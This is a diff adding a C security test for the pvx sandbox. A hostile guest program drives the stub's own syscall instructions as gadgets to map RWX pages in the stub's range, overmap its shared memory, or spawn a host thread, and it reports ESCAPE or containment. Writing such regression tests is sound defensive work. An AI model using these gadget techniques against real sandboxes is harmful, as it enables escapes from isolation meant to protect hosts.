@@ -1,0 +1,135 @@
+/* sec_stub_gadget: a hostile guest that drives the stub's own syscall instructions with registers it chose
+ * (issue 11, finding 3). Any line starting with "ESCAPE" means the sandbox let it change the stub's ranges or
+ * make a host thread; being killed (SIGSYS) or refused is containment.
+ * usage: sec_stub_gadget window|overmap|clone
+ *   window:  map an RWX page in the stub's range just past its code (the old filter trusted a 64 KiB window
+ *            there), first through the ptrace gadget (a syscall instruction the seccomp stub never uses),
+ *            then through a "syscall; ret" of the stub
+ *   overmap: replace a page of the stub's shared memory with a fresh mapping
+ *   clone:   run clone(2) through the stub's instructions: a host thread pvx did not ask for
+ * Only meaningful inside pvx (natively there is no stub: it prints "no stub" and exits 2). */
+#define _GNU_SOURCE
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+#include "guest.h"
+#include "stubgadget.h"
+
+#define WINDOW_PAGE (STUB_TEXT + 0x7000)	/* past the stub's code, inside the old 64 KiB window */
+#define SHARED_PAGE (STUB_SHARED + 0x80000)	/* inside the shared regions, in every layout so far */
+
+static struct stub_gadgets g;
+
+/* Jump to gadget with rax = nr and the arguments; a trap after the syscall (int3) comes back here. */
+static long try_call(uintptr_t gadget, long nr, long a0, long a1, long a2, long a3, long a4, long a5)
+{
+	if (sigsetjmp(probe_jb, 1))
+		return -9999;	/* came back through SIGTRAP/SIGSEGV after the syscall ran */
+	probing = 1;
+	long r = stub_call(gadget, nr, a0, a1, a2, a3, a4, a5);
+	probing = 0;
+	return r;
+}
+
+static int window(void)
+{
+	if (readable(WINDOW_PAGE)) {
+		say("window page already mapped: the layout changed, nothing to test\n");
+		return 2;
+	}
+	say("via the ptrace gadget at %#lx\n", (unsigned long)g.first);
+	try_call(g.first, SYS_mmap, WINDOW_PAGE, PG, PROT_READ | PROT_WRITE | PROT_EXEC,
+		 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
+	if (readable(WINDOW_PAGE)) {
+		say("ESCAPE: mapped a page at %#lx in the stub's range (ptrace gadget)\n", WINDOW_PAGE);
+		return 0;
+	}
+	uintptr_t gd = gadget_nonzero(&g);
+	if (!gd) {
+		say("no returning gadget found\n");
+		return 3;
+	}
+	say("via the gadget at %#lx\n", (unsigned long)gd);
+	long r = try_call(gd, SYS_mmap, WINDOW_PAGE, PG, PROT_READ | PROT_WRITE | PROT_EXEC,
+			  MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
+	say("mmap returned %ld\n", r);
+	if (readable(WINDOW_PAGE)) {
+		say("ESCAPE: mapped a page at %#lx in the stub's range\n", WINDOW_PAGE);
+		return 0;
+	}
+	say("contained\n");
+	return 1;
+}
+
+static int overmap(void)
+{
+	if (!readable(SHARED_PAGE)) {
+		say("no shared page at %#lx: nothing to test\n", SHARED_PAGE);
+		return 2;
+	}
+	*(volatile unsigned long *)SHARED_PAGE = 0x5a5a5a5a5a5a5a5aUL;
+	uintptr_t gd = gadget_nonzero(&g);
+	if (!gd) {
+		say("no returning gadget found\n");
+		return 3;
+	}
+	say("via the gadget at %#lx\n", (unsigned long)gd);
+	long r = try_call(gd, SYS_mmap, SHARED_PAGE, PG, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED,
+			  -1, 0);
+	say("mmap returned %ld\n", r);
+	if (readable(SHARED_PAGE) && *(volatile unsigned long *)SHARED_PAGE != 0x5a5a5a5a5a5a5a5aUL) {
+		say("ESCAPE: replaced a page of the stub's shared memory\n");
+		return 0;
+	}
+	say("contained\n");
+	return 1;
+}
+
+static int clone_thread(void)
+{
+	static int ptid, ctid;
+	static unsigned long stack[512];
+	/* the older stub's clone path pops its region from the new stack: hand it region 200 */
+	unsigned long *sp = &stack[510];
+	sp[0] = STUB_SHARED + 200 * 0x43000UL;
+	uintptr_t gd = g.clone ? g.clone : gadget_nonzero(&g);
+	if (!gd) {
+		say("no returning gadget found\n");
+		return 3;
+	}
+	say("via the gadget at %#lx\n", (unsigned long)gd);
+	long flags[] = { 0x350f00, 0x50f00 };	/* a stub thread's flags, with and without the tid words */
+	for (int i = 0; i < 2; i++) {
+		long r = try_call(gd, SYS_clone, flags[i], (long)sp, (long)&ptid, (long)&ctid, 0, 0);
+		say("clone(%#lx) returned %ld\n", flags[i], r);
+		if (r > 0) {
+			say("ESCAPE: made host thread %ld\n", r);
+			return 0;
+		}
+	}
+	say("contained\n");
+	return 1;
+}
+
+int main(int argc, char **argv)
+{
+	if (argc < 2)
+		return 2;
+	probe_init();
+	find_gadgets(&g);
+	if (!g.first) {
+		say("no stub\n");
+		return 2;
+	}
+	if (!strcmp(argv[1], "window"))
+		return window();
+	if (!strcmp(argv[1], "overmap"))
+		return overmap();
+	if (!strcmp(argv[1], "clone"))
+		return clone_thread();
+	return 2;
+}
